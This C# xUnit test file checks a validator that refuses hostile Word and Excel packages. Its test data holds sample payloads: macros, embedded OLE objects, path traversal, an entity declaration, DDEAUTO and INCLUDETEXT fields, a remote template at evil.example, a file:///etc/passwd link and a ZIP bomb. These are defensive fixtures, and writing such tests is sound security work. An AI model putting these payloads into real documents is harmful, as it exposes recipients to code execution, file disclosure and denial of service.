using System.Text;
using DonorBridge.Documents.Packages;
using DonorBridge.Documents.Tests.Templates;
using Xunit;

namespace DonorBridge.Documents.Tests.Packages;

public class SafePackageTests
{
    private const string Types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";

    public static TheoryData<string, string, string> Hostile => new()
    {
        { "word/vbaProject.bin", "x", "it holds macros" },
        { "word/embeddings/oleObject1.bin", "x", "embedded object" },
        { "xl/externalLinks/externalLink1.xml", "<x/>", "reach into other workbooks" },
        { "../outside.xml", "<x/>", "leads out of the file" },
        { "word/document.xml", "<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>", "declares a document type" },
        { "word/document.xml", "<x", "is not well-formed" },
        { "word/document.xml", "<w:document xmlns:w=\"w\"><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:document>", "runs or fetches something (DDEAUTO)" },
        { "word/document.xml", "<w:document xmlns:w=\"w\"><w:fldSimple w:instr=\" INCLUDETEXT file \"/></w:document>", "INCLUDETEXT" },
        { "word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
        { "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
    };

    [Theory, MemberData(nameof(Hostile))]
    public void A_hostile_file_is_refused_with_the_reason(string part, string content, string reason) =>
        Assert.Contains(reason, Refused(Zip((part, content))));

    [Fact]
    public void A_bomb_of_zeros_is_refused_before_it_is_unpacked() =>
        Assert.Contains("as a ZIP bomb does", Refused(WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes(Types)), ("word/media/zero.png", new byte[200 * 1024 * 1024])])));

    [Fact]
    public void A_truncated_file_is_refused()
    {
        var whole = Zip(("word/document.xml", "<x/>"));

        Assert.Contains("no complete ZIP", Refused(whole[..(whole.Length / 2)]));
    }

    [Fact]
    public void A_macro_enabled_file_is_refused_by_its_type() =>
        Assert.Contains("macro-enabled", Refused(WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"))])));

    [Fact]
    public void A_link_to_a_page_is_let_through() =>
        Assert.NotNull(SafePackage.Open(Zip(("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/></Relationships>")), "form.docx"));

    private static byte[] Zip((string Part, string Content) part) =>
        WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes(Types)), (part.Part, Encoding.UTF8.GetBytes(part.Content))]);

    private static string Refused(byte[] file) => Assert.Throws<RefusedFileException>(() => SafePackage.Open(file, "form.docx")).Message;
}
